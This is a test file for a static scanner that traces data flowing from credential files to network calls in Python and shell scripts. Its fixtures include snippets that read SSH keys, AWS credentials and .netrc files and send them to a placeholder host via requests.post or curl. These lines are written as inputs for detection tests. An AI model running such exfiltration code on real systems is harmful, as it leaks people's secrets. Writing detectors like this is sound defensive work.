import { expect, it } from "vitest";
import { flowsOf, type Unit } from "../../../../src/core/scan/flow/flow.ts";
import { scriptProgram } from "../../../../src/core/scan/flow/flow-script.ts";
import { shellProgram } from "../../../../src/core/scan/flow/flow-shell.ts";
import { currentSyntax, type SyntaxNode } from "../../../../src/core/scan/syntax.ts";

function flows(files: Readonly<Record<string, string>>): readonly string[] {
  const units = Object.entries(files).map(([path, text]): Unit => {
    const isShell = path.endsWith(".sh");
    const tree = currentSyntax()(isShell ? "sh" : "python", text) as SyntaxNode;
    return { path, text, isShell, program: isShell ? shellProgram(tree, text) : scriptProgram(tree, text) };
  });
  return flowsOf(units).map(
    ({ kind, address, taints, unit, start, end }) =>
      `${unit.path} ${kind} ${address} ${[...taints].join()}: ${unit.text.slice(start, end).split("\n")[0]}`,
  );
}

it("follows names backwards through a loop", () => {
  expect(
    flows({
      "a.py":
        "import requests\nwhile True:\n    requests.post('https://a.example', data=c)\n    c = b\n    b = open('/home/u/.ssh/id_rsa').read()\n",
    }),
  ).toEqual([
    "a.py http https://a.example secret.keys|/home/u/.ssh/id_rsa: requests.post('https://a.example', data=c)",
  ]);
});

it("follows arguments and results from file to file", () => {
  expect(
    flows({
      "main.py": "from take import key\nfrom net import send\nsend(key())\n",
      "net.py": "import requests\ndef send(x):\n    requests.post('https://a.example', data=x)\n",
      "take.py": "def key():\n    return open('/root/.aws/credentials').read()\n",
    }),
  ).toEqual([
    "net.py http https://a.example secret.cloud|/root/.aws/credentials: requests.post('https://a.example', data=x)",
  ]);
});

it("does not take routines of files that nobody imports for its own", () => {
  expect(
    flows({
      "main.py": "key = open('/root/.aws/credentials').read()\nsend(key)\n",
      "net.py": "import requests\ndef send(x):\n    requests.post('https://a.example', data=x)\n",
    }),
  ).toEqual([]);
});

it("follows files from one script to the other", () => {
  expect(flows({ "a.sh": "cat ~/.netrc > /tmp/rows\n", "b.sh": "curl -T /tmp/rows https://a.example\n" })).toEqual([
    "b.sh http https://a.example secret.cloud|~/.netrc: curl -T /tmp/rows https://a.example",
  ]);
});

it("says each flow once, however often a step is looked at", () => {
  const names = Array.from({ length: 5 }, (_, i) => `x${i} = x${i + 1}\n`).join("");
  const text = `import requests\n${names}x5 = open('/root/.netrc').read()\nrequests.post('https://a.example', data=x0)\nx0 = x1\n`;
  expect(flows({ "a.py": text })).toHaveLength(1);
});

it("ends for routines that call each other", () => {
  expect(flows({ "a.py": "def a(x):\n    return b(x)\ndef b(x):\n    return a(x + 'y')\na(b('z'))\n" })).toEqual([]);
});

it("tells a file's name in an address from what is in the file", () => {
  const probe =
    "from urllib.parse import urljoin\nimport requests\nfor name in ['.env', '.aws/credentials']:\n    requests.get(urljoin(base, name))\n    requests.get(f'https://a.example/{name}')\n";
  expect(flows({ "a.py": probe })).toEqual([]);
  expect(flows({ "a.sh": 'for f in x ~/.aws/credentials; do curl "https://a.example/$f"; done\n' })).toEqual([]);
  for (const [path, text] of [
    ["a.py", "import requests\nd = open('/root/.netrc').read()\nrequests.get('https://a.example/' + d)\n"],
    ["b.py", "import requests\nd = ''\nd += open('/root/.netrc').read()\nrequests.get(f'https://a.example/{d}')\n"],
    ["c.sh", 'f=~/.netrc\nf=$(cat $f)\ncurl "https://a.example/$f"\n'],
  ] as const)
    expect(flows({ [path]: text }), path).not.toEqual([]);
});
